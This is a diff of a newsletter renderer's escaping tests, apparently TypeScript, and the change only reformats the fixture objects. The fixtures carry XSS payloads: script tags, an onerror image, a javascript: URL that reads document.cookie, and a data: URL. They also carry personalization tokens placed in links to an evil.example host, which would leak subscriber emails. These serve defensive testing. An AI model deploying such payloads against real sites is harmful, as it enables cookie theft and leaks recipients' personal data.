@@ -7,7 +7,12 @@ import { defaultRenderer } from './helpers.ts';
 function hostileSegment() {
   const segment = buildFixtureSegment({ intro: 'Editor says <b>hi</b> & "welcome"\n\n<script>alert(1)</script>' });
   const cards = segment.sections[0]!.articles;
-  cards[0] = { ...cards[0]!, title: '<script>alert("t")</script> Breaking', summary: 'Sum <img src=x onerror=alert(1)> & more', sourceTitle: 'Evil "Source" <i>' };
+  cards[0] = {
+    ...cards[0]!,
+    title: '<script>alert("t")</script> Breaking',
+    summary: 'Sum <img src=x onerror=alert(1)> & more',
+    sourceTitle: 'Evil "Source" <i>',
+  };
   cards[1] = { ...cards[1]!, title: 'Click me', url: 'javascript:alert(document.cookie)' };
   cards[2] = { ...cards[2]!, title: 'Data link', url: 'data:text/html;base64,PHNjcmlwdD4=' };
   segment.topStory = {
@@ -58,9 +63,18 @@ describe('escaping', () => {
   it('never lets a source field carry a personalization token (a title %%{email}%% stays text)', async () => {
     const segment = buildFixtureSegment();
     const cards = segment.sections[0]!.articles;
-    cards[0] = { ...cards[0]!, title: 'Leak %%{email}%% now', summary: 'Hi &#37;&#37;&#123;name&#125;&#37;&#37;', source: '%%{unsubscribe_url}%%' };
+    cards[0] = {
+      ...cards[0]!,
+      title: 'Leak %%{email}%% now',
+      summary: 'Hi &#37;&#37;&#123;name&#125;&#37;&#37;',
+      source: '%%{unsubscribe_url}%%',
+    };
     cards[1] = { ...cards[1]!, title: 'Tracked link', url: 'https://evil.example/c?e=%25%25%7Bemail%7D%25%25' };
-    segment.topStory = { ...segment.topStory!, title: 'Top %%{name}%%', imageUrl: 'https://evil.example/p.gif?e=%%{email}%%' };
+    segment.topStory = {
+      ...segment.topStory!,
+      title: 'Top %%{name}%%',
+      imageUrl: 'https://evil.example/p.gif?e=%%{email}%%',
+    };
     const rendered = await (await defaultRenderer()).renderSegment(segment, buildFixtureNewsletter());
     const message = personalize(rendered, FIXTURE_TOKENS);
     const count = (text: string, what: string) => text.split(what).length - 1;
